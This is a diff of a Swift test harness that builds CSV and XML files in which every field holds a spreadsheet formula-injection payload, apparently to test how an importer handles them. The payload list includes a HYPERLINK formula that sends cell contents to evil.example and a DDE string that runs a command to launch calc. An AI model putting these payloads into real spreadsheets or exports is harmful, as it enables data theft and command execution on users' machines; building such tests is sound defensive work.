@@ -290,11 +290,10 @@ enum Attacks {
         Attack(name: "formula payloads in every CSV and XML field", build: { s in
             let formulas = ["=HYPERLINK(\"http://evil.example/?\"&A1)", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "|calc", "%0A=1", "\t=1", "\r=1"]
             var rows: [String] = []
-            for (i, f) in formulas.enumerated() {
+            for f in formulas {
                 let q = "\"" + f.replacingOccurrences(of: "\"", with: "\"\"") + "\""
                 // Every field holds the payload; name fields carry the name marker as well.
                 rows.append(([q, q, "\"" + Scene.namePayload + f.replacingOccurrences(of: "\"", with: "\"\"") + "\"", q] + Array(repeating: q, count: 10)).joined(separator: ","))
-                _ = i
             }
             s.write(C, Scene.detentionHeader + "\n" + rows.joined(separator: "\n") + "\n")
             let esc = { (f: String) in f.replacingOccurrences(of: "&", with: "&amp;").replacingOccurrences(of: "<", with: "&lt;").replacingOccurrences(of: "\"", with: "&quot;") }
